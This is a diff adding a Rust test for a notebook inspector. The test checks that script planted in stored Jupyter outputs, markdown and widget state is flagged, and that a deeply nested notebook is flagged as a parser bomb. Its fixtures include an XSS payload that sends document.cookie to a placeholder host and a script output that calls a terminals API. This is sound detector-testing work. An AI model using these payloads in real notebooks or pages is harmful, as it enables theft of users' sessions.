@@ -294,3 +294,29 @@ const PIECES: &[&str] = &[
     "[",
     "]",
 ];
+
+#[test]
+fn scripts_in_stored_outputs_of_notebooks_are_told() {
+    const SENDS: &str = r#"<img src=x onerror=\"fetch('https://a.example/?'+document.cookie)\">"#;
+    for (text, count) in [
+        (format!(r#"{{"cells":[{{"cell_type":"code","outputs":[{{"data":{{"text/html":["{SENDS}"]}}}}]}}]}}"#), 1),
+        (format!(r#"{{"cells":[{{"cell_type":"code","outputs":[{{"html":"{SENDS}"}}]}}]}}"#), 1),
+        (format!(r#"{{"cells":[{{"cell_type":"markdown","source":"{SENDS}"}}]}}"#), 1),
+        (format!(r#"{{"cells":[],"metadata":{{"widgets":{{"a":{{"state":{{"value":"{SENDS}"}}}}}}}}}}"#), 1),
+        (format!(r#"{{"cells":[{{"cell_type":"markdown","source":"```html\n{SENDS}\n```\n"}}]}}"#), 0),
+        (format!(r#"{{"cells":[{{"cell_type":"code","outputs":[{{"data":{{"text/plain":["{SENDS}"]}}}}]}}]}}"#), 0),
+        (
+            r#"{"cells":[{"cell_type":"code","outputs":[{"data":{"application/javascript":"fetch('/api/terminals')"}}]}]}"#
+                .to_owned(),
+            1,
+        ),
+        (r#"{"cells":[{"cell_type":"code","outputs":[{"data":{"text/html":"<b>10</b>"}}]}]}"#.to_owned(), 0),
+    ] {
+        let inspection = jingwei_template::inspect_notebook(text.as_bytes(), &NAMES, &Limits::default()).unwrap();
+        let planted = inspection.sightings.iter().filter(|sighting| sighting.rule == "model.planted-text");
+        assert_eq!(planted.count(), count, "{text}");
+    }
+    let deep = format!("{{\"cells\": {}", "[".repeat(200_000));
+    let inspection = jingwei_template::inspect_notebook(deep.as_bytes(), &NAMES, &Limits::default()).unwrap();
+    assert!(inspection.sightings.iter().any(|sighting| sighting.rule == "model.config-bomb"));
+}
